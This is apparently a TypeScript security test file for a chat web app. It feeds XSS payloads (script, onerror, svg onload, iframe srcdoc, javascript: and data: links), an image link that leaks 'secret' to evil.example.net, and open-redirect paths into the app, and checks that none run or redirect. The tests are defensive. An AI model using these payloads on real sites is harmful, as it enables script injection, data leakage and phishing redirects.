import { randomUUID } from "node:crypto";
import type { MessageStatus } from "@sendcat/shared-types";
import { expect } from "vitest";
import { ECHO } from "../api/chat.ts";
import { openChat } from "../browser/chat-page.ts";
import { openBrowser } from "../browser/open-browser.ts";
import type { Attempt } from "./attempt.ts";
import { callCore, send, type Target } from "./target.ts";

const MARK = "window.__attacked=1";

/** An answer with this text on the chat page and on its shared page: neither runs a script, asks another site or breaks. */
async function shown(
  target: Target,
  { text, status }: { readonly text: string; readonly status: MessageStatus },
  isSafe: (html: string) => void,
): Promise<void> {
  const browser = await openBrowser();
  try {
    const chat = await openChat(browser, { web: target.web });
    const asked: string[] = [];
    chat.page.on("request", (request) => asked.push(request.url()));
    await chat.ask(`${ECHO}${text}`);
    await chat.answerIs(status);
    const { token } = await chat.guest();
    const shareId = randomUUID();
    await callCore(target, "shares:create", { token, args: { threadId: chat.threadId(), shareId } });
    isSafe(await chat.page.content());
    await chat.page.goto(`${target.web}/s/${shareId}`);
    await chat.page.getByTestId("shared-thread").waitFor();
    isSafe(await chat.page.content());
    expect(await chat.page.evaluate(() => Reflect.get(globalThis, "__attacked"))).toBeUndefined();
    expect(asked.filter((url) => url.includes("evil.example.net"))).toEqual([]);
    await chat.close();
  } finally {
    await browser.close();
  }
}

export const PAGE_ATTEMPTS: readonly Attempt[] = [
  {
    title: "an answer with markup, scripts and links that run",
    async run(target) {
      const text = [
        `<script>${MARK}</script>`,
        `<img src=x onerror="${MARK}">`,
        `<svg/onload=${MARK}>`,
        `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
        `<form action="https://evil.example.net"><input name=q></form>`,
        `<a id="main" name="main" href="x">x</a>`,
        `[click](javascript:${MARK})`,
        `[click](data:text/html,<script>${MARK}</script>)`,
        `![p](https://evil.example.net/p.png?q=secret)`,
        `[ref]: https://evil.example.net/r.png "t"`,
        `<https://evil.example.net/auto>`,
        `$\\href{javascript:${MARK}}{x}$`,
      ].join("\n\n");
      await shown(target, { text, status: "complete" }, (html) => {
        const page = html.replaceAll(/<script nonce[\s\S]*?<\/script>/g, "");
        expect(page).not.toMatch(
          /<img[^>]+onerror|<svg[^>]+onload|<iframe|<form action="https:|href="(javascript|data):/i,
        );
        expect(page).not.toMatch(/<img[^>]+evil\.example\.net/);
      });
    },
  },
  {
    title: "an answer that is nested without end",
    async run(target) {
      // Longer than the model may answer, so that the nesting goes as deep as an answer can.
      for (const text of ["- ".repeat(6_000), "> ".repeat(6_000), "* * ".repeat(3_000)])
        await shown(target, { text, status: "truncated" }, (html) => expect(html).not.toMatch(/something went wrong/i));
    },
  },
  {
    title: "a sign-in link of the attacker's, and addresses that lead to another site",
    async run(target) {
      const browser = await openBrowser();
      try {
        const page = await (await browser.newContext()).newPage();
        const asked: string[] = [];
        page.on("request", (request) => {
          if (request.method() === "POST" && request.url().includes("/api/session"))
            asked.push(request.postData() ?? "");
        });
        await page.goto(`${target.web}/sign-in/test?code=attackers&state=attackers`);
        await page.getByRole("alert").first().waitFor();
        expect(asked.filter((body) => body.includes("attackers"))).toEqual([]);
        for (const path of [
          "/plans?thread=//evil.example.net",
          "/?bought=javascript:alert(1)",
          "/account?returnTo=https://evil.example.net",
          "//evil.example.net/",
          "/\\evil.example.net",
        ]) {
          const reply = await send(target, path);
          expect(reply.headers.get("location") ?? "").not.toMatch(/^(https?:)?\/\/evil|^\/\\/);
        }
      } finally {
        await browser.close();
      }
    },
  },
];
